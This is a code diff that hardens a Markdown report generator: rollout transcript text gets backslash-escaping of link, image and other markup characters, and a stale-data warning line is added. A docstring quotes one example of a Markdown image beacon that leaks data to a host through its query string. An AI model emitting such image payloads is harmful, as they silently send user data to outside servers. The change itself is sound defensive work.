@@ -1,4 +1,5 @@
-"""The report as Markdown. Rollout text is escaped: no raw HTML or table breaks from transcripts."""
+"""The report as Markdown. Rollout text is escaped: no raw HTML, table breaks, links or images from transcripts
+(an image in a transcript, `![](https://host/?leak=...)`, would load when the report is viewed)."""
 
 from __future__ import annotations
 
@@ -11,12 +12,18 @@ from engine.store.queries import HypothesisRow
 EXCERPT = 240
 
 
+# Markdown punctuation that could make rollout text into markup: table cells, code, emphasis, links and
+# images (`[`, `]`, `!`, `(`, `)`), headings and strikethrough; backslash first, so escapes stay literal.
+_MARKUP = str.maketrans({c: f"\\{c}" for c in "\\|`*_[]()!#~"})
+
+
 def md(text: str | None, limit: int = EXCERPT) -> str:
-    """Transcript or user text made inert for Markdown: control characters gone, HTML escaped, one line."""
+    """Transcript or user text made inert for Markdown: control and bidi characters gone, HTML escaped,
+    Markdown punctuation backslash-escaped, one line."""
     if not text:
         return ""
     flat = " ".join(clean(text, limit).split())
-    return escape(flat).replace("|", "\\|").replace("`", "\\`").replace("*", "\\*").replace("_", "\\_")
+    return escape(flat).translate(_MARKUP)
 
 
 def _finding(h: HypothesisRow, content: ReportContent) -> list[str]:
@@ -49,6 +56,7 @@ def render_markdown(content: ReportContent) -> str:
     out = [
         f"# rldiff report: {md(s.before)} -> {md(s.after)}",
         "",
+        *([f"**Warning: {md(s.stale_notice(), 400)}.**", ""] if s.stale else []),
         "## Study",
         "",
         "| checkpoint | tasks | rollouts | success rate | 95% CI |",
